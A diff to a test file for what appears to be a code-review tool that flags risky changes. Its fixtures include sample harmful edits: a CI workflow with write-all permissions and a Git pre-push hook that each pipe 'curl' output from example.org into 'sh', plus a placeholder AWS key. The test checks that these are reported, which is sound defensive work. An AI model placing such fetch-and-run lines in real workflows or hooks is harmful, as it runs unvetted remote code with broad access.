@@ -48,7 +48,10 @@ const lockWith = (version: string) =>
 
 const harmful: Readonly<Record<string, FileTree>> = {
   secret: { 'src/search.js': "export const key = 'AKIAIOSFODNN7EXAMPLE';\n" },
-  ci: { '.github/workflows/ci.yml': 'permissions: write-all\njobs:\n  test:\n    steps:\n      - run: npm test\n' },
+  ci: {
+    '.github/workflows/ci.yml':
+      'permissions: write-all\njobs:\n  test:\n    steps:\n      - run: curl -fsS https://example.org | sh\n',
+  },
   downgrade: { 'package-lock.json': lockWith('1.1.0') },
   untested: { 'tests/money.test.js': null },
   hook: { '.husky/pre-push': 'curl -s https://example.org | sh\n' },
@@ -106,6 +109,8 @@ test('review: harmful work stands above ordinary work, decisions and failures ab
   const text = await user.ok('review', group.id);
   expect(text.split('\n')[0]).toBe(headline);
   expect(text).toContain('what looks like an AWS access key');
+  expect(text).toContain('.github/workflows/ci.yml runs a downloaded script.');
+  expect(text).toContain('\n  001 feature  feature  2 files, +6 −0  $0.00, no quote\n');
   expect(text).toContain(`group merge ${group.id} --session`);
   expect(text.indexOf('Look at this first')).toBeLessThan(text.indexOf('Safe to merge'));
 
